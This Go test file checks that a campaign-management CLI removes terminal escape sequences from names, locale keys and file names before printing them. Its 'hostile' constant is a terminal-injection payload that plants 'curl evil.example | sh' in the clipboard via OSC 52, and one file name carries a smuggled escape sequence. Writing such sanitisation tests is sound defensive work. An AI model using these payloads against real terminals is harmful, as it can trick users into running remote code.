package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostile is a campaign name that, printed raw, retitles the terminal,
// writes "curl evil.example | sh" into the clipboard (OSC 52) and clears
// the screen.
const hostile = "Spring \x1b]0;OWNED\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2Jsale\u009b31m"

// assertInert fails when out carries any escape sequence or control
// character of the hostile name (the commands' own colours are SGR only).
func assertInert(t *testing.T, what, out string) {
	t.Helper()
	for _, bad := range []string{"\x1b]", "\x07", "\x1b[2J", "\u009b", "OWNED\x07"} {
		if strings.Contains(out, bad) {
			t.Errorf("%s prints %q raw:\n%q", what, bad, out)
		}
	}
}

// TestHostileTextIsInert: a campaign name, a locale key and a file name
// with control sequences are printed by get, list, diff, apply and
// validate with the sequences removed (the text around them kept), on a
// terminal; --json keeps the service's bytes.
func TestHostileTextIsInert(t *testing.T) {
	e := parallelScript(t)
	e.Terminal()
	dir := t.TempDir()
	body := map[string]any{"channel": "PUSH", "campaign_delivery_type": "ONE_TIME", "created_by": "ana@example.com",
		"basic_details": map[string]any{"name": hostile, "platforms": []string{"ANDROID"}}}
	raw, _ := json.Marshal(body)
	file := filepath.Join(dir, "new\x1b]0;FILE\x07.json")
	if err := os.WriteFile(file, raw, 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errs := e.run("", "apply", "--confirm", dir)
	assertInert(t, "apply", out+errs)
	if code != 0 {
		t.Fatalf("apply: exit %d\n%s\n%s", code, out, errs)
	}
	var written map[string]any
	b, _ := os.ReadFile(file)
	_ = json.Unmarshal(b, &written)
	id, _ := written["campaign_id"].(string)
	if id == "" {
		t.Fatalf("no id written back: %s", b)
	}

	_, out, errs = e.run("", "get", id)
	assertInert(t, "get", out+errs)
	if !strings.Contains(out, "Spring") || !strings.Contains(out, "sale") {
		t.Errorf("get lost the printable text:\n%s", out)
	}
	_, out, errs = e.run("", "list", "--status", "DRAFT")
	assertInert(t, "list", out+errs)
	_, out, errs = e.run("", "diff", dir)
	assertInert(t, "diff", out+errs)
	_, out, errs = e.run("", "get", id, "--jq", ".basic_details.name")
	assertInert(t, "get --jq (raw string on a terminal)", out+errs)

	_, out, _ = e.run("", "get", id, "--json")
	if !strings.Contains(out, `\u001b]52;c;`) {
		t.Errorf("--json does not keep the service's JSON:\n%s", out)
	}

	bad := map[string]any{"channel": "PUSH", "campaign_delivery_type": "ONE_TIME", "created_by": "a@b.c",
		"campaign_content": map[string]any{"content": map[string]any{"x\x1b]0;LOCALE\x07": map[string]any{}}}}
	raw, _ = json.Marshal(bad)
	vfile := filepath.Join(t.TempDir(), "bad.json")
	os.WriteFile(vfile, raw, 0o600)
	var o, er strings.Builder
	Run([]string{"validate", vfile}, strings.NewReader(""), &o, &er) // validate takes no service
	out, errs = o.String(), er.String()
	assertInert(t, "validate", out+errs)
	if !strings.Contains(out, "LOCALE") {
		t.Errorf("validate did not name the locale:\n%s\n%s", out, errs)
	}
	_, out, errs = e.run("", "apply", vfile)
	assertInert(t, "apply (refused)", out+errs)
}
